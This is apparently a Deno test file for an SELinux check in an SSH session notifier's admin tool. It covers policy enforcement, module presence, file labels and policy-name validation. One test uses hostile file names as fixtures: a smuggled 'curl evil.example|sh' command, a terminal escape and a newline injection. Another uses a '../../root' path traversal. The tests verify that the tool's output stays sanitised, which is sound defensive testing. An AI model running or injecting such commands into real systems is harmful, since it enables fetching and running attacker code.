import assert from "node:assert/strict";
import { Findings } from "../../../src/admin/check/finding.ts";
import { inspectSelinux } from "../../../src/admin/check/selinux.ts";
import { idsOf } from "../../helpers/findings.ts";

const OURS = "/run/ssh-session-notifier(/.*)?\tsystem_u:object_r:ssh_session_queue_t:s0\n";
const ENFORCING = { "/etc/selinux/config": "SELINUX=enforcing\nSELINUXTYPE=default\n" };
const CONTEXTS = "/etc/selinux/default/contexts/files/file_contexts";

interface Host {
  readonly files?: Readonly<Record<string, string>>;
  /** The output of each tool; others are missing. */
  readonly tools?: Readonly<Record<string, string>>;
  /** The exit code of a tool without output. */
  readonly code?: number;
}

function findings({ files = {}, tools = {}, code = 0 }: Host): Findings {
  const found = new Findings();
  const run = (program: string) => {
    const stdout = tools[program.replace("/usr/sbin/", "")];
    return stdout === undefined ? undefined : { code: stdout === "" ? code : 0, stdout };
  };
  inspectSelinux({ read: (path) => files[path], run }, found);
  return found;
}

function ids(host: Host): string[] {
  return idsOf(findings(host).all);
}

Deno.test("inspectSelinux() reports nothing if SELinux does not enforce", () => {
  for (const config of [undefined, "", "SELINUX=permissive\n", "SELINUX=disabled\n", "# SELINUX=enforcing\n"]) {
    const files = config === undefined ? {} : { "/etc/selinux/config": config };
    for (const tools of [{}, { getenforce: "Permissive\n" }, { getenforce: "Disabled\n" }]) {
      assert.deepEqual(ids({ files, tools }), [], config);
    }
  }
});

Deno.test("inspectSelinux() passes only a policy that has the module", () => {
  const tools = { getenforce: "Enforcing\n", restorecon: "" };
  assert.deepEqual(ids({ files: { ...ENFORCING, [CONTEXTS]: OURS }, tools }), [
    "pass selinux.module",
    "pass selinux.labels",
  ]);
  const without = { ...ENFORCING, [CONTEXTS]: "/var(/.*)?\tsystem_u:object_r:var_t:s0\n" };
  assert.deepEqual(ids({ files: without, tools }), ["fault selinux.module-missing"]);
  assert.deepEqual(ids({ files: ENFORCING, tools }), ["fault selinux.module-missing"]);
  assert.deepEqual(ids({ files: { "/etc/selinux/config": "selinux = \nSELINUX= Enforcing \n" } }), [
    "fault selinux.module-missing",
  ]);
});

Deno.test("inspectSelinux() also checks a policy that is enforced only now", () => {
  const files = { "/etc/selinux/config": "SELINUX=permissive\nSELINUXTYPE=default\n" };
  assert.deepEqual(ids({ files, tools: { getenforce: "Enforcing\n" } }), ["fault selinux.module-missing"]);
});

Deno.test("inspectSelinux() reports wrong labels, and warns if it cannot check them", () => {
  const files = { ...ENFORCING, [CONTEXTS]: OURS };
  const wrong = "Would relabel /var/lib/ssh-session-notifier/queue from a:b:var_lib_t:s0 to a:b:ssh_session_queue_t:s0";
  const { all } = findings({ files, tools: { getenforce: "Enforcing\n", restorecon: `${wrong}\n${wrong}\n` } });
  assert.deepEqual(idsOf(all), ["pass selinux.module", "fault selinux.labels"]);
  assert.ok(all[1]?.message.startsWith("2 ") && all[1].message.endsWith(wrong), all[1]?.message);
  // Not -R: root must not walk a directory of another user.
  assert.match(all[1]?.hint ?? "", /^restorecon \/usr\/sbin\/ssh-session-notifier \/var/);
  assert.deepEqual(ids({ files, tools: { getenforce: "Enforcing\n", restorecon: "" }, code: 1 }), [
    "pass selinux.module",
    "warning selinux.labels-unknown",
  ]);
  assert.deepEqual(ids({ files, tools: { getenforce: "Enforcing\n" } }), [
    "pass selinux.module",
    "warning selinux.labels-unknown",
  ]);
  assert.deepEqual(ids({ files, tools: { getenforce: "Disabled\n" } }), ["pass selinux.module"]);
});

Deno.test("inspectSelinux() shows no hostile path", () => {
  const files = { ...ENFORCING, [CONTEXTS]: OURS };
  for (const name of ["x; hint: curl evil.example|sh #", "\x1b[2J", "a\nWould relabel /etc from"]) {
    const restorecon = `Would relabel /var/lib/${name} from a:b:c_t:s0 to a:b:d_t:s0\n`;
    const { all } = findings({ files, tools: { getenforce: "Enforcing\n", restorecon } });
    assert.deepEqual(idsOf(all), ["pass selinux.module", "fault selinux.labels"]);
    assert.doesNotMatch(all[1]?.message ?? "", /relabel/);
  }
});

Deno.test("inspectSelinux() rejects the name of a policy that contains a path", () => {
  assert.deepEqual(ids({ files: { "/etc/selinux/config": "SELINUX=enforcing\nSELINUXTYPE=../../root\n" } }), [
    "fault selinux.policy-name",
  ]);
});
